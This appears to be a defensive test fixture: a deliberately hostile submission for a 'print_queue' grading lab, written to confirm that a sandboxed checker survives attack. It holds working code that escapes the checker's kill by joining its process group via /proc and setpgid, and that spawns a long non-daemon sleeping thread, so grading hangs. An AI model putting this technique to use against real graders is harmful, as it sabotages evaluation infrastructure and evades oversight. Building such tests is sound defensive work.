"""Hostile solution for the print_queue lab: makes its checker wait for ever.

Attempts, during its first call:
1. os.setpgid(0, <its checker's process group>, read from /proc): the
   checker ends a worker by killing the worker's own process group and
   then waits for it; a worker that has left its group is not in the group
   killed, and the wait never ends;
2. starts a non-daemon thread that sleeps (SLEEP_SECONDS, half an hour:
   for ever, as far as a grader is concerned; bounded so that a checker
   without the defence is not left hanging for good): the interpreter
   waits for such threads before it exits, so the worker never exits when
   asked to quit either.
Then it returns [], a wrong answer.

Unguarded, its check would never finish: the checker waits for a worker
that neither exits nor is killed, and a batch waits for the checker, so a
whole class's grading hangs (here: for SLEEP_SECONDS).
Expected verdict: wrong, on EXPECTED_CASE, and a batch that finishes.
What should stop it: the seccomp filter (no setpgid, no threads), and the
sandbox's own PID namespace, whose processes all end with its first.
Guarded: unless OPTDEMO_HOSTILE_TESTS=1, print_order raises RuntimeError at
once and changes nothing.
"""

import os
import threading
import time

LAB = "print_queue"
EXPECTED = "wrong"
EXPECTED_CASE = "one short job"

SLEEP_SECONDS = 30 * 60

attack_done = False


def require_armed():
    if os.environ.get("OPTDEMO_HOSTILE_TESTS") != "1":
        raise RuntimeError("hostile test disarmed: set OPTDEMO_HOSTILE_TESTS=1 to run it")


def checker_group():
    """The process group of this worker's parent, from /proc/<ppid>/stat."""
    with open("/proc/%d/stat" % os.getppid()) as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[2])


def attack():
    try:
        os.setpgid(0, checker_group())
    except (OSError, ValueError, IndexError):
        pass
    try:
        threading.Thread(target=time.sleep, args=(SLEEP_SECONDS,), daemon=False).start()
    except RuntimeError:            # "can't start new thread"
        pass


def print_order(jobs, pages_per_turn):
    global attack_done
    require_armed()
    if not attack_done:
        attack_done = True
        try:
            attack()
        except Exception:           # whichever layer refused it, the answer below stands
            pass
    return []
